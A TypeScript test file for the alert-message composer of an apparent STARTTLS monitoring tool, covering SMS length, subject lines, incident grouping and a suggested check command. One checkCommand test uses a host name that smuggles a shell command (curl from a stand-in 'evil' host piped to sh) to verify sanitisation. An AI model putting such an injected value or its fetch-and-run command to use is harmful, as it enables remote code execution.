import { ENDINGS, TRANSITION_KINDS, type Transition } from '../../../lib/judgement/incident';
import { OUTCOMES } from '../../../lib/judgement/outcome';
import { CAUSE_CODES, SCOPES } from '../../../lib/judgement/verdict';
import { checkCommand } from '../../../lib/notification/advice';
import { groupEntries } from '../../../lib/notification/groups';
import { composeMessage } from '../../../lib/notification/message';
import { septets, smsText } from '../../../lib/notification/sms';
import { subjectLine } from '../../../lib/notification/subject';
import { duration } from '../../../lib/notification/words';
import { ROLES } from '../../../lib/telemetry/contract';
import { entry, transition } from '../../support/incidents';
import { fc } from '../../support/properties';
import { scenarios, tenants } from '../../support/scenarios';
import { losing } from '../../support/sightings';
import { anyEntry, hostileText } from './arbitraries';

const context = { installation: 'default' };
const batches = fc.array(anyEntry, { minLength: 1, maxLength: 6 });

describe('whatever strangers put into it', () => {
  it('the SMS is one part of GSM-7 that names the incident', () => {
    fc.assert(
      fc.property(batches, (entries) => {
        const { sms } = composeMessage(entries, context);
        expect(septets(sms)).toBeLessThanOrEqual(160);
        expect(entries.some(({ incident }) => sms.includes(` ${incident.id}`))).toBe(true);
      }),
    );
  });

  it('the subject is printable ASCII, shorter than 100 characters, and begins with a letter', () => {
    fc.assert(
      fc.property(batches, hostileText, (entries, installation) => {
        const { subject } = composeMessage(entries, { installation });
        expect(subject).toMatch(/^[A-Z][\x20-\x7e]{1,98}$/);
      }),
    );
  });

  it('the email has no control characters and turns no text round', () => {
    fc.assert(
      fc.property(batches, (entries) => {
        const { email } = composeMessage(entries, context);
        expect(email).not.toMatch(/[^\P{Cc}\n]|[\p{Bidi_Control}\u2028\u2029]/u);
      }),
    );
  });

  it('only the email’s own words stand at the beginning of a line', () => {
    fc.assert(
      fc.property(anyEntry, (each) => {
        const { email } = composeMessage([each], context);
        const labels = email
          .split('\n')
          .map((line) => /^([A-Z][a-z]+(?: [a-z]+)?) {2,}\S/.exec(line)?.[1])
          .filter((label) => label !== undefined);
        const known = ['Do first', 'Do now', 'Changed', 'Host', 'Since', 'Gone', 'Seen from', 'Server', 'Likely'];
        const others = ['It was', 'Effect', 'Check it', 'Next', 'Ack', 'Mute', 'Runbook', 'Incident', 'Before'];
        expect([...known, ...others]).toEqual(expect.arrayContaining(labels));
      }),
    );
  });

  it('the JSON reads, and says each id once', () => {
    fc.assert(
      fc.property(batches, (entries) => {
        const { json, ids } = composeMessage(entries, context);
        const { transitions }: { transitions: { id: string }[] } = JSON.parse(json);
        expect(transitions.map(({ id }) => id)).toEqual(ids);
        expect(ids).toHaveLength(entries.length);
      }),
    );
  });
});

describe('the SMS', () => {
  const rows: readonly { name: string; more: Partial<Transition>; expected: string }[] = [
    {
      name: 'a loss on the path of the mail',
      more: {},
      expected:
        'CRIT contoso.example: no STARTTLS for hq 203.0.113.9. Mail needing TLS queues. See email. Since 23 Nov 21:54Z 7F3A2K',
    },
    {
      name: 'a loss everywhere',
      more: { scope: 'everywhere' },
      expected:
        'CRIT contoso.example: no STARTTLS for anyone. Mail needing TLS queues. See email. Since 23 Nov 21:54Z 7F3A2K',
    },
    {
      name: 'a loss at an observer',
      more: { severity: 'warning', losing: ['us-east-1'] },
      expected:
        'WARN contoso.example: no STARTTLS for us-east-1 198.51.100.80. Your mail: not known. See email. Since 23 Nov 21:54Z 7F3A2K',
    },
    {
      name: 'a recovery',
      more: { kind: 'resolved', durationSeconds: 90_061 },
      expected: 'OK contoso.example: STARTTLS is back after 1 day 1 h. 7F3A2K',
    },
  ];
  it.each(rows)('of $name', ({ more, expected }) => {
    expect(composeMessage([entry([transition(more)])], context).sms).toBe(expected);
  });

  it('leaves out from the end what does not fit, and keeps the incident', () => {
    const long = entry([transition()], { targets: [`${'long-'.repeat(11)}name.example`] });
    const { sms } = composeMessage([long], context);
    const name = `${'long-'.repeat(11)}na...`;
    expect(sms).toBe(`CRIT ${name}: no STARTTLS for hq 203.0.113.9. Mail needing TLS queues. See email. 7F3A2K`);
  });

  it('says local time where the readers are elsewhere', () => {
    const { sms } = composeMessage([entry()], { ...context, timezone: 'Asia/Kathmandu' });
    expect(sms).toContain('Since 24 Nov 03:39 local 7F3A2K');
  });

  const names = [
    { mxHost: 'mx.example.net', targets: ['a.example'], egress: '203.0.113.9', vantage: 'hq' },
    {
      mxHost: `${'long-label-of-a-name.'.repeat(10)}example.net`,
      targets: Array.from({ length: 12 }, (_, n) => `${'x'.repeat(60)}.${'y'.repeat(60)}.domain-${n}.example`),
      egress: '2001:0db8:ffff:ffff:ffff:ffff:ffff:ffff',
      vantage: 'a-vantage-with-a-name-as-long-as-can-be-in-the-file',
    },
  ];
  const places = SCOPES.flatMap((scope) => ROLES.map((role) => ({ scope, role })));
  const reasons = CAUSE_CODES.flatMap((code) => OUTCOMES.map((outcome) => ({ code, outcome })));
  const endings = [undefined, ...ENDINGS];

  it.each(TRANSITION_KINDS)('is one part for every scope, role, cause, outcome, ending and long name (%s)', (kind) => {
    const bad: string[] = [];
    for (const { scope, role } of places)
      for (const { code, outcome } of reasons)
        for (const ended of endings)
          for (const { mxHost, targets, egress, vantage } of names) {
            const seen = losing(vantage, { outcome, role, egress });
            const cause = { code, confidence: 'low', evidence: [] } as const;
            const unseen = { vantages: [vantage], since: '2026-11-23T21:54:52.000Z' };
            const facts = { kind, scope, cause, losing: [vantage], sightings: [seen], durationSeconds: 349_200 };
            const { durationSeconds: _, ...unended } = transition({ ...facts, ...(ended && { ended, unseen }) });
            const one = ended === undefined ? transition(facts) : unended;
            const groups = groupEntries([entry([one], { id: 'ZZZZZZ', mxHost, targets })]);
            const sms = smsText(groups, { timezone: 'America/New_York' });
            const subject = subjectLine(groups, context);
            const isGood = septets(sms) <= 160 && /^(CRIT|OK|ENDED) .* ZZZZZZ$/.test(sms) && subject.length < 100;
            if (!isGood || `${sms} ${subject}`.includes('undefined')) bad.push(`${sms} / ${subject}`);
          }
    expect(bad).toEqual([]);
  });

  it.each([
    { outcome: 'missing', expected: 'no STARTTLS for hq' },
    { outcome: 'masked', expected: 'STARTTLS masked for hq' },
    { outcome: 'ehlo-refused', expected: 'EHLO refused for hq' },
    { outcome: 'starttls-refused', expected: 'STARTTLS refused for hq' },
    { outcome: 'plaintext-after-starttls', expected: 'plaintext after STARTTLS for hq' },
    { outcome: 'tls-handshake-failed', expected: 'TLS handshake fails for hq' },
    { outcome: 'probe-refused', expected: 'SMTP refused for hq' },
  ] as const)('says how it shows: $outcome', ({ outcome, expected }) => {
    const sightings = [losing('hq', { outcome, role: 'mail-path' })];
    expect(composeMessage([entry([transition({ sightings })])], context).sms).toContain(`: ${expected}`);
  });

  it('counts the characters of the extension table twice', () => {
    expect(septets('a~[')).toBe(5);
    expect(septets('é')).toBe(Number.POSITIVE_INFINITY);
  });
});

describe('the subject', () => {
  const rows: readonly { name: string; more: Partial<Transition>; expected: string }[] = [
    {
      name: 'a restricted address',
      more: {},
      expected: 'CRITICAL: STARTTLS withheld from hq (203.0.113.9) by contoso-example.mail.protection.example',
    },
    {
      name: 'a middlebox',
      more: { cause: { code: 'middlebox-on-path', confidence: 'high', evidence: [] } },
      expected: 'CRITICAL: STARTTLS gone for hq (203.0.113.9) at contoso-example.mail.protection.example',
    },
    {
      name: 'two vantages, one of them on the path of the mail',
      more: { losing: ['us-east-1', 'hq'] },
      expected: 'CRITICAL: STARTTLS withheld from hq (203.0.113.9) +1 by contoso-example.mail.protection.example',
    },
    {
      name: 'a loss everywhere, again',
      more: { kind: 'reopened', scope: 'everywhere' },
      expected: 'CRITICAL: STARTTLS gone again at contoso-example.mail.protection.example, from everywhere',
    },
    {
      name: 'a recovery',
      more: { kind: 'resolved', durationSeconds: 125 },
      expected: 'RESOLVED: STARTTLS is back at contoso-example.mail.protection.example after 2 min 5 s',
    },
  ];
  it.each(rows)('of $name', ({ more, expected }) => {
    expect(composeMessage([entry([transition(more)])], context).subject).toBe(expected);
  });

  it('names the installation unless it is the default one', () => {
    const subjectFor = (installation: string) => composeMessage([entry()], { installation }).subject;
    const text = 'CRITICAL: STARTTLS withheld from hq (203.0.113.9) by contoso-example.mail.protection.example';
    expect(subjectFor('test')).toBe(`${text} [test]`);
    expect(subjectFor('second')).toBe(`${text.slice(0, 87)}... [second]`);
    expect(subjectFor('x'.repeat(64))).toHaveLength(99);
  });
});

describe('what belongs together', () => {
  const other = entry([transition()], { id: 'OTHER1', mxHost: 'mx.fabrikam.example', targets: ['fabrikam.example'] });
  const warning = entry([transition({ severity: 'warning', losing: ['us-east-1'] })], { id: 'WARN01' });
  const subjectOf = (...entries: Parameters<typeof composeMessage>[0]) => composeMessage(entries, context).subject;

  it('is one thing where operator, cause and losing vantages are the same', () => {
    expect(subjectOf(...tenants(3))).toBe(
      'CRITICAL: STARTTLS withheld from hq (203.0.113.9) by 3 hosts of protection.example',
    );
  });

  it('is not where one of them differs', () => {
    expect(subjectOf(...tenants(2), other)).toBe('CRITICAL: STARTTLS gone at 3 hosts of 2 operators');
    expect(subjectOf(...tenants(2), warning)).toBe('CRITICAL: STARTTLS gone at 3 hosts');
  });

  it('is told with the losses first, and as loud as the loudest loss', () => {
    const back = entry([transition({ kind: 'resolved', durationSeconds: 5 })], { id: 'BACK01' });
    const { subject, severity, ids } = composeMessage([back, warning], context);
    expect(subject).toBe('WARNING: STARTTLS gone at 1 host, back at 1 host');
    expect(severity).toBe('critical');
    expect(ids).toEqual(['WARN01#1', 'BACK01#1']);
  });

  const of = (n: number, transitions: readonly Transition[]) =>
    entry(transitions, { id: `MANY0${n}`, mxHost: `mx.operator${n}.example`, targets: [`operator${n}.example`] });
  const refused = transition({ sightings: [losing('hq', { outcome: 'probe-refused', role: 'mail-path' })] });
  const handshake = transition({ sightings: [losing('hq', { outcome: 'tls-handshake-failed', role: 'mail-path' })] });
  const ehlo = transition({ sightings: [losing('hq', { outcome: 'ehlo-refused', role: 'mail-path' })] });
  const end = (ended: Transition['ended'] & string) => transition({ sequence: 2, kind: 'resolved', ended });
  const reminded = transition({ kind: 'reminder' });
  const updated = transition({ kind: 'updated' });
  const back = transition({ sequence: 2, kind: 'resolved', durationSeconds: 5 });

  it.each([
    { name: 'reminders', all: [[reminded], [reminded]], expected: 'CRITICAL (reminder): STARTTLS gone at 2 hosts' },
    { name: 'updates', all: [[updated], [updated]], expected: 'CRITICAL (update): STARTTLS gone at 2 hosts' },
    { name: 'an update and a loss', all: [[updated], [ehlo]], expected: 'CRITICAL: STARTTLS gone at 2 hosts' },
    {
      name: 'a loss and a failed handshake',
      all: [[transition()], [handshake]],
      expected: 'CRITICAL: TLS gone at 2 hosts',
    },
    { name: 'refusals', all: [[refused], [refused]], expected: 'CRITICAL: SMTP refused at 2 hosts' },
    { name: 'a refusal and a loss', all: [[refused], [transition()]], expected: 'CRITICAL: trouble at 2 hosts' },
    {
      name: 'a refusal, and the end of one',
      all: [[refused], [refused, back]],
      expected: 'CRITICAL: SMTP refused at 1 host, SMTP accepted again at 1 host',
    },
    {
      name: 'ends that nobody saw',
      all: [
        [transition(), end('no-longer-mx')],
        [transition(), end('no-longer-mx')],
      ],
      expected: 'ENDED: no longer an MX, 2 hosts of 2 operators',
    },
    {
      name: 'ends of two kinds',
      all: [
        [transition(), end('no-longer-mx')],
        [transition(), end('no-longer-monitored')],
      ],
      expected: 'ENDED: 2 hosts of 2 operators',
    },
    {
      name: 'a recovery and an end',
      all: [
        [transition(), back],
        [transition(), end('no-longer-mx')],
      ],
      expected: 'RESOLVED: STARTTLS back at 1 host, ended at 1 host',
    },
  ])('has a subject that fits all: $name', ({ all, expected }) => {
    expect(subjectOf(...all.map((transitions, n) => of(n, transitions)))).toMatch(expected);
  });

  it('does not mix what is taken on with what nobody has', () => {
    const [first, second] = [of(1, [transition()]), of(2, [transition()])];
    const taken = {
      ...first,
      incident: { ...first.incident, mxHost: 'a.operator2.example', acknowledged: { at: 'x', by: 'y' } },
    };
    const { email } = composeMessage([taken, second], context);
    expect(groupEntries([taken, second])).toHaveLength(2);
    expect(email).toContain('npx starttls-canary ack MANY02');
    expect(email).not.toContain('npx starttls-canary ack MANY01');
  });

  it('tells of an incident that came and went as it stands now, with all its ids', () => {
    const { incident } = entry([transition(), transition({ sequence: 2, kind: 'resolved', durationSeconds: 61 })]);
    const both = incident.transitions.map((each) => ({ incident, transition: each }));
    const { subject, ids, email } = composeMessage(both, context);
    expect(subject).toBe('RESOLVED: STARTTLS is back at contoso-example.mail.protection.example after 1 min 1 s');
    expect(ids).toEqual(['7F3A2K#1', '7F3A2K#2']);
    expect(email).toContain('7F3A2K#1, opened at 21:55:02, is said only now');
  });

  it('says the same whatever the order in which it is handed over', () => {
    for (const { entries } of scenarios) {
      const [one, other] = [composeMessage(entries, context), composeMessage([...entries].reverse(), context)];
      expect(other.sms.split(' ')[0]).toBe(one.sms.split(' ')[0]);
      expect(other.subject).toBe(one.subject);
    }
  });

  it('does not know a kind of transition that it has no words for', () => {
    for (const kind of TRANSITION_KINDS) {
      expect(composeMessage([entry([transition({ kind })])], context).email).not.toContain('undefined');
    }
  });
});

describe('checkCommand', () => {
  it.each([
    { mxHost: 'mx.example.net', port: 25, expected: '"[mx.example.net]"' },
    { mxHost: 'mx.example.net', port: 587, expected: '"[mx.example.net]:587"' },
    { mxHost: '192.0.2.1', port: 25, expected: '"[192.0.2.1]"' },
    { mxHost: '2001:db8::1', port: 25, expected: '"[IPv6:2001:db8::1]"' },
    { mxHost: "mx';curl evil|sh;'.example", port: 25, expected: '"[mx??curl?evil?sh??.example]"' },
  ])('of $mxHost port $port', ({ mxHost, port, expected }) => {
    expect(checkCommand({ mxHost, port })).toBe(`npx starttls-canary check ${expected} --transcript`);
  });
});

describe('duration', () => {
  it.each([
    [0, '0 s'],
    [0.4, '0 s'],
    [59.6, '1 min'],
    [125, '2 min 5 s'],
    [3600, '1 h'],
    [12_000, '3 h 20 min'],
    [86_400, '1 day'],
    [349_200, '4 days 1 h'],
    [-5, '0 s'],
  ])('of %d seconds is %s', (seconds, expected) => {
    expect(duration(seconds)).toBe(expected);
  });
});
